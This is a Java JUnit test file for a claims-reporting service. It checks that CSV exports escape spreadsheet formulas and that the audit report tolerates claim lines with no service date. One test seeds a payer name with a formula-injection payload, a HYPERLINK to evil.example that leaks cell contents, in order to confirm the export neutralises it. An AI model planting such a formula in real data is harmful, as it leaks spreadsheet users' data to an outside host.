package io.arbiter.reports;

import io.arbiter.claims.Claim;
import io.arbiter.claims.ClaimLine;
import io.arbiter.common.CsvCells;
import io.arbiter.practice.Payer;
import io.arbiter.practice.PlanType;
import io.arbiter.security.Roles;
import io.arbiter.support.CaseApi;
import io.arbiter.support.ClaimFixtures;
import io.arbiter.support.DenialFixtures;
import io.arbiter.support.TestAccounts;
import io.arbiter.support.TestClock;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpResponse;
import io.micronaut.http.HttpStatus;
import io.micronaut.http.client.BlockingHttpClient;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import javax.sql.DataSource;
import java.math.BigDecimal;
import java.sql.Connection;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Reports survive hostile and incomplete stored data (issue 23 items 7 and 8). */
@MicronautTest(transactional = false)
class ReportHardeningTest {

    @Inject
    @Client("/")
    HttpClient http;
    @Inject
    TestAccounts accounts;
    @Inject
    ClaimFixtures fixtures;
    @Inject
    DenialFixtures fx;
    @Inject
    TestClock clock;
    @Inject
    DataSource dataSource;
    @Inject
    io.micronaut.jdbc.DataSourceResolver resolver;

    @AfterEach
    void tearDown() {
        clock.reset();
    }

    @Test
    void cellsThatASpreadsheetWouldRunAreShownAsText() {
        assertEquals("'=HYPERLINK(\"http://x\")", CsvCells.cell("=HYPERLINK(\"http://x\")"));
        assertEquals("'+1", CsvCells.cell("+1"));
        assertEquals("'-2+3", CsvCells.cell("-2+3"));
        assertEquals("'@SUM(1+1)", CsvCells.cell("@SUM(1+1)"));
        assertEquals("'\tx", CsvCells.cell("\tx"));
        assertEquals("'\rx", CsvCells.cell("\rx"));
        assertEquals(new BigDecimal("-5.00"), CsvCells.cell(new BigDecimal("-5.00")), "a negative amount stays a number");
        assertEquals("ACME HEALTH PLAN", CsvCells.cell("ACME HEALTH PLAN"));
        assertEquals("", CsvCells.cell(""));
    }

    @Test
    void aPayerNamedLikeAFormulaIsExportedAsText() {
        BlockingHttpClient client = http.toBlocking();
        String specialist = accounts.token(client, Roles.SPECIALIST);
        clock.today(LocalDate.of(2026, 10, 9));
        String hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        Claim claim = fixtures.oneLineClaim("LSCSVINJ01", hostile, "EVIL1", PlanType.SELF_FUNDED_ERISA, null, "64483",
                "2400.00", "336.00", LocalDate.of(2026, 9, 14), LocalDate.of(2026, 10, 8), "24", "752041000", "M5416", List.of("N865"));
        new CaseApi(client, specialist, clock).openId(claim.id(), "2026-10-09");

        String finance = accounts.token(client, Roles.FINANCE);
        String csv = client.retrieve(HttpRequest.GET("/api/v1/reports/recoveries?groupBy=PAYER").accept("text/csv").bearerAuth(finance), String.class);
        // CSV quoting doubles the quotes inside; the cell begins with the apostrophe, not with "="
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""), csv);
        for (String line : csv.split("\r?\n")) {
            assertFalse(line.startsWith("=") || line.startsWith("\"="), line);
        }
    }

    @Test
    @SuppressWarnings("unchecked")
    void aClaimLineWithoutAnyServiceDateDoesNotTakeTheAuditReportDown() throws Exception {
        BlockingHttpClient client = http.toBlocking();
        Payer payer = fx.payer("UNDATED HEALTH", "UND01", null);
        Claim claim = fx.claim("LSNODATE01", payer, PlanType.SELF_FUNDED_ERISA, "11", LocalDate.of(2026, 7, 8), LocalDate.of(2026, 8, 3), null,
                List.of(new DenialFixtures.L("64483", "", 1, "1000.00", "300.00", List.of("CO-45:700.00"), List.of())));
        ClaimLine line = fx.lines(claim).get(0);
        try (Connection c = resolver.resolve(dataSource).getConnection(); Statement s = c.createStatement()) {
            // as an old import or a hand edit can leave it: no date on the line nor on the claim
            s.executeUpdate("UPDATE claim_line SET service_date = NULL WHERE id = " + line.id());
            s.executeUpdate("UPDATE claim SET service_date_from = NULL, service_date_to = NULL WHERE id = " + claim.id());
        }
        String finance = accounts.token(client, Roles.FINANCE);
        HttpResponse<Map> report = client.exchange(HttpRequest.GET("/api/v1/reports/audit").bearerAuth(finance), Map.class);
        assertEquals(HttpStatus.OK, report.getStatus());

        String admin = accounts.token(client, Roles.ADMIN);
        Map<String, Object> check = client.retrieve(HttpRequest.GET("/api/v1/claims/" + claim.id() + "/auth-check").bearerAuth(admin), Map.class);
        Map<String, Object> lineCheck = ((List<Map<String, Object>>) check.get("lines")).get(0);
        assertEquals("NOT_CHECKED", lineCheck.get("status"));
        assertEquals("NO_SERVICE_DATE", ((List<Map<String, Object>>) lineCheck.get("flags")).get(0).get("code"));
    }
}
